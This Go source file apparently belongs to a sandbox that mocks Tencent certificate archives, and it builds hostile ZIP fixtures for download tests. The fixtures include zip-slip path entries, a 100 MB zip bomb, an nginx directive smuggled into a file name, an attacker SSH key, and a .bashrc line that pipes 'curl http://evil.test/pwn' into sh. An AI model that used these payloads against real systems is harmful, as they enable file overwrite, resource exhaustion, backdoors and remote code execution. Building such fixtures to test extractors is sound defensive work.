package sandbox

import (
	"archive/zip"
	"bytes"
	"compress/flate"
	"fmt"
	"hash/crc32"
	"strings"
	"sync"
	"time"
)

// The hostile archives of the download test IDs.
const (
	archiveZipSlip   = "zip-slip"
	archiveBomb      = "bomb"
	archiveWrongLeaf = "wrong-leaf"
	archiveBadLayout = "bad-layout"
)

// hostileDomain is the domain of every hostile archive's certificate.
const hostileDomain = "hostile.example.com"

// bombSize is how far the bomb's one entry inflates.
const bombSize = 100 << 20

// zipEntry is one file of an archive.
type zipEntry struct {
	name string
	data []byte
}

// tencentZip packs an issued certificate the way Tencent's archive is laid
// out: one folder per server type, named after the domain (with * as _);
// the key (and its CSR) only when the sandbox generated it.
func tencentZip(domain string, iss *issued, interPEM string) ([]byte, error) {
	return packZip(tencentEntries(domain, iss, interPEM))
}

func tencentEntries(domain string, iss *issued, interPEM string) []zipEntry {
	n := strings.ReplaceAll(domain, "*", "_")
	bundle := iss.leafPEM + interPEM
	entries := []zipEntry{
		{n + "_nginx/" + n + "_bundle.crt", []byte(bundle)},
		{n + "_nginx/" + n + "_bundle.pem", []byte(bundle)},
	}
	if iss.keyPEM != "" {
		entries = append(entries,
			zipEntry{n + "_nginx/" + n + ".key", []byte(iss.keyPEM)},
			zipEntry{n + "_nginx/" + n + ".csr", []byte(iss.csrPEM)})
	}
	entries = append(entries,
		zipEntry{n + "_apache/root_bundle.crt", []byte(interPEM)},
		zipEntry{n + "_apache/" + n + ".crt", []byte(iss.leafPEM)})
	if iss.keyPEM != "" {
		entries = append(entries, zipEntry{n + "_apache/" + n + ".key", []byte(iss.keyPEM)})
	}
	entries = append(entries,
		zipEntry{n + "_other/" + n + ".pem", []byte(iss.leafPEM)},
		zipEntry{n + "_other/root_bundle.crt", []byte(interPEM)})
	if iss.keyPEM != "" {
		entries = append(entries, zipEntry{n + "_other/" + n + ".key", []byte(iss.keyPEM)})
	}
	return entries
}

func packZip(entries []zipEntry) ([]byte, error) {
	var buf bytes.Buffer
	zw := zip.NewWriter(&buf)
	modified := time.Now()
	for _, e := range entries {
		w, err := zw.CreateHeader(&zip.FileHeader{Name: e.name, Method: zip.Deflate, Modified: modified})
		if err != nil {
			return nil, fmt.Errorf("zip %s: %w", e.name, err)
		}
		if _, err := w.Write(e.data); err != nil {
			return nil, fmt.Errorf("zip %s: %w", e.name, err)
		}
	}
	if err := zw.Close(); err != nil {
		return nil, fmt.Errorf("zip: %w", err)
	}
	return buf.Bytes(), nil
}

var (
	bombOnce sync.Once
	bombZip  []byte
	bombErr  error
)

// hostileZip is the archive of a hostile download test ID: entries that
// climb out of the folder (../ and an absolute path) beside a normal one;
// one entry that inflates to 100 MB from about 100 KB; Tencent's layout
// holding a certificate, signed by the sandbox CA, for another name than
// the order's (evil.attacker.test); or that layout with names beside it
// that are no certificate's (a dot file, an ssh key, a name that would be
// an nginx directive).
func hostileZip(kind string) ([]byte, error) {
	switch kind {
	case archiveWrongLeaf:
		return leafZip("evil.attacker.test", nil)
	case archiveBadLayout:
		return leafZip(hostileDomain, []zipEntry{
			{hostileDomain + "_nginx/x; include evil.conf; #_bundle.crt", []byte("ssl_certificate /etc/evil.pem;\n")},
			{hostileDomain + "_other/.ssh/authorized_keys", []byte("ssh-ed25519 AAAA attacker\n")},
			{".bashrc", []byte("curl http://evil.test/pwn | sh\n")},
		})
	case archiveZipSlip:
		return packZip([]zipEntry{
			{"hostile.example.com_nginx/hostile.example.com_bundle.crt", []byte("-----BEGIN CERTIFICATE-----\nnot a certificate\n-----END CERTIFICATE-----\n")},
			{"../evil.txt", []byte("written outside the folder\n")},
			{"/abs.txt", []byte("written at an absolute path\n")},
		})
	case archiveBomb:
		bombOnce.Do(func() { bombZip, bombErr = makeBomb() })
		return bombZip, bombErr
	}
	return nil, fmt.Errorf("no hostile archive %q", kind)
}

// leafZip is Tencent's layout for hostileDomain holding a certificate the
// sandbox CA signed for name, with a key generated here, then extra.
func leafZip(name string, extra []zipEntry) ([]byte, error) {
	ca, err := sandboxCA()
	if err != nil {
		return nil, err
	}
	now := time.Now()
	iss, err := ca.issue(map[string]any{"CsrType": "online"}, []string{name}, now.Add(-time.Hour), now.AddDate(0, 3, 0))
	if err != nil {
		return nil, err
	}
	return packZip(append(tencentEntries(hostileDomain, &iss, ca.interPEM), extra...))
}

// makeBomb builds the bomb's deflate stream without compressing 100 MB:
// once the window is full of zeros, every flushed MiB of zeros compresses
// to the same bytes, so the stream is the first MiB, that block repeated,
// and an empty final block.
func makeBomb() ([]byte, error) {
	const mib = 1 << 20
	var raw bytes.Buffer
	fw, err := flate.NewWriter(&raw, flate.BestCompression)
	if err != nil {
		return nil, fmt.Errorf("zip bomb: %w", err)
	}
	zeros := make([]byte, mib)
	var blocks [2][]byte
	for i := range blocks {
		start := raw.Len()
		if _, err := fw.Write(zeros); err != nil {
			return nil, fmt.Errorf("zip bomb: %w", err)
		}
		if err := fw.Flush(); err != nil {
			return nil, fmt.Errorf("zip bomb: %w", err)
		}
		blocks[i] = bytes.Clone(raw.Bytes()[start:])
	}
	var stream bytes.Buffer
	stream.Write(blocks[0])
	crc := crc32.Update(0, crc32.IEEETable, zeros)
	for i := 1; i < bombSize/mib; i++ {
		stream.Write(blocks[1])
		crc = crc32.Update(crc, crc32.IEEETable, zeros)
	}
	stream.Write([]byte{1, 0, 0, 0xff, 0xff}) // a final empty stored block

	var buf bytes.Buffer
	zw := zip.NewWriter(&buf)
	w, err := zw.CreateRaw(&zip.FileHeader{
		Name: "hostile.example.com_nginx/hostile.example.com_bundle.crt", Method: zip.Deflate, Modified: time.Now(),
		CRC32: crc, CompressedSize64: uint64(stream.Len()), UncompressedSize64: bombSize,
	})
	if err != nil {
		return nil, fmt.Errorf("zip bomb: %w", err)
	}
	if _, err := w.Write(stream.Bytes()); err != nil {
		return nil, fmt.Errorf("zip bomb: %w", err)
	}
	if err := zw.Close(); err != nil {
		return nil, fmt.Errorf("zip bomb: %w", err)
	}
	return buf.Bytes(), nil
}
